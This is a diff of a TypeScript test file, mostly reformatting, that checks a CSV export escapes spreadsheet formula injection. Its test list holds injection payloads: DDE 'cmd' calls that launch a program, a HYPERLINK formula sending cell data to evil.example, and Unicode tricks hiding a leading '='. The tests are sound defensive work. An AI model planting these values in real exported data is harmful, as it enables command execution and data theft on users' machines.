@@ -1,25 +1,63 @@
 import assert from 'node:assert/strict';
 import type { Organization } from '../../../../src/core/privilegeMap.ts';
 import { accessMatrix } from '../../../../src/model/matrix/accessMatrix.ts';
-import { accessReport } from '../../../../src/model/report/accessReport.ts';
-import { csvField } from '../../../../src/model/text/csv.ts';
 import { matrixCsv } from '../../../../src/model/matrix/matrixCsv.ts';
 import { createArranger, wholeMatrix } from '../../../../src/model/matrix/matrixView.ts';
+import { accessReport } from '../../../../src/model/report/accessReport.ts';
+import { csvField } from '../../../../src/model/text/csv.ts';
 import { figure } from '../../../support/figures.ts';
 import { hostileTexts } from '../../../support/hostileTexts.ts';
 
 /** What spreadsheets carry out, or have carried out, and ways to hide that it begins like that. */
 const formulas = [
-  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?"&A1;"x")', '+cmd|x!A0', '-2+3+cmd|x!A0', '@A1', '=A1,B1',
-  ' =1', '  \u00a0=1', '\u3000=1', '\ufeff=1', '\u200b=1', '\u2060=1', '\u202e=1', '\u00ad=1', '\u2800=1', '\u0000=1',
-  '"=1', '"=1"', '""=1', '" =1', '"";=1', '\u001f+1', '\u007f@A1', '\u{e0001}=1', '\t=1', '\r=1',
-  '\n=1', '\r\n-1', '\u2028=1', '\u0085=1', '\v=1', '＝1', '＋1', '－1', '＠A1', '﹦1',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?"&A1;"x")',
+  '+cmd|x!A0',
+  '-2+3+cmd|x!A0',
+  '@A1',
+  '=A1,B1',
+  ' =1',
+  '  \u00a0=1',
+  '\u3000=1',
+  '\ufeff=1',
+  '\u200b=1',
+  '\u2060=1',
+  '\u202e=1',
+  '\u00ad=1',
+  '\u2800=1',
+  '\u0000=1',
+  '"=1',
+  '"=1"',
+  '""=1',
+  '" =1',
+  '"";=1',
+  '\u001f+1',
+  '\u007f@A1',
+  '\u{e0001}=1',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\r\n-1',
+  '\u2028=1',
+  '\u0085=1',
+  '\v=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '﹦1',
 ] as const;
 
 /** Where in a field a formula can stand. */
 const fields: readonly ((formula: string) => string)[] = [
   (formula) => formula,
-  ...[';', '\t', '\n', '\r', '\r\n', '; ', ';"', ';""', '\t"', '";', '"\n', ';;', ';\t', '"\t', '";"', "';"].map((before) => (formula: string) => `Acme${before}${formula}`),
+  ...[';', '\t', '\n', '\r', '\r\n', '; ', ';"', ';""', '\t"', '";', '"\n', ';;', ';\t', '"\t', '";"', "';"].map(
+    (before) => (formula: string) => `Acme${before}${formula}`,
+  ),
   (formula) => `"Acme";"${formula}"`,
   (formula) => `;${formula};`,
   (formula) => `Oslo, "${formula}", 1;${formula}`,
@@ -31,7 +69,10 @@ interface Reading {
   readonly skipsSpaces: boolean;
 }
 
-const readings: readonly Reading[] = [',', ';', '\t', ',;\t'].flatMap((separators) => [{ separators, skipsSpaces: false }, { separators, skipsSpaces: true }]);
+const readings: readonly Reading[] = [',', ';', '\t', ',;\t'].flatMap((separators) => [
+  { separators, skipsSpaces: false },
+  { separators, skipsSpaces: true },
+]);
 
 /** Reads as spreadsheets do: a quote opens at the beginning of a cell alone, and what follows the closing one belongs to the cell. */
 function readCells(text: string, { separators, skipsSpaces }: Reading): string[] {
@@ -58,7 +99,9 @@ function readCells(text: string, { separators, skipsSpaces }: Reading): string[]
 
 /** Whether a spreadsheet may take a cell for a formula, whatever it leaves out before it and however wide it writes. */
 function isFormula(cell: string): boolean {
-  const first = [...cell.normalize('NFKC')].find((character) => !/[\s"\p{C}\p{Default_Ignorable_Code_Point}\u2800]/u.test(character));
+  const first = [...cell.normalize('NFKC')].find(
+    (character) => !/[\s"\p{C}\p{Default_Ignorable_Code_Point}\u2800]/u.test(character),
+  );
   return first !== undefined && '=+-@\u2212'.includes(first);
 }
 
@@ -67,7 +110,15 @@ const formulasIn = (csv: string, reading: Reading) => readCells(csv.replace(/^\u
 /** Every field that a report or a matrix has. */
 function everywhere(text: string): string[] {
   const organizations: Organization[] = [
-    { id: text, name: text, grants: [{ role: text, privileges: [text, 'READ'] }], sites: [{ id: text, name: text, grants: [{ role: text, privileges: [text] }] }, { name: `1${text}`, grants: [] }] },
+    {
+      id: text,
+      name: text,
+      grants: [{ role: text, privileges: [text, 'READ'] }],
+      sites: [
+        { id: text, name: text, grants: [{ role: text, privileges: [text] }] },
+        { name: `1${text}`, grants: [] },
+      ],
+    },
   ];
   const head = { connection: text, baseUrl: 'https://service.example', user: text, loadedAtMs: 0, version: '1.2.3' };
   const matrices = (['privilege', 'role'] as const).map((kind) => {
@@ -91,7 +142,9 @@ describe('CSV', () => {
         }
       }
     }
-    figure(`formulas (${formulas.length}) × separators (comma, semicolon, tab, all three) × fields (${fields.length}): ${cells} cells read, 0 begin with a formula in any of the readings`);
+    figure(
+      `formulas (${formulas.length}) × separators (comma, semicolon, tab, all three) × fields (${fields.length}): ${cells} cells read, 0 begin with a formula in any of the readings`,
+    );
   });
 
   it('would be seen to have some without the apostrophes', () => {
@@ -104,8 +157,26 @@ describe('CSV', () => {
   });
 
   it('keeps every other field to the letter, and of these all but the apostrophes', () => {
-    const honest = ['Acme', 'Rīga, Oslo & Co.', 'say "x"', 'A - B', "O'Hara's", 'two; three', 'Oslo (11)', '1-2', 'a=b', 'x@example.com', '日本語', '👩‍🚒', 'two\r\nlines', '', ' spaced ', "'quoted'"];
-    for (const text of honest) assert.deepEqual(readCells(csvField(text), { separators: ',', skipsSpaces: false }), [text]);
+    const honest = [
+      'Acme',
+      'Rīga, Oslo & Co.',
+      'say "x"',
+      'A - B',
+      "O'Hara's",
+      'two; three',
+      'Oslo (11)',
+      '1-2',
+      'a=b',
+      'x@example.com',
+      '日本語',
+      '👩‍🚒',
+      'two\r\nlines',
+      '',
+      ' spaced ',
+      "'quoted'",
+    ];
+    for (const text of honest)
+      assert.deepEqual(readCells(csvField(text), { separators: ',', skipsSpaces: false }), [text]);
     for (const text of [...formulas.flatMap((formula) => fields.map((field) => field(formula))), ...hostileTexts()]) {
       const [cell = '', ...more] = readCells(csvField(text), { separators: ',', skipsSpaces: false });
       assert.deepEqual([cell.replaceAll("'", ''), more], [text.replaceAll("'", ''), []]);
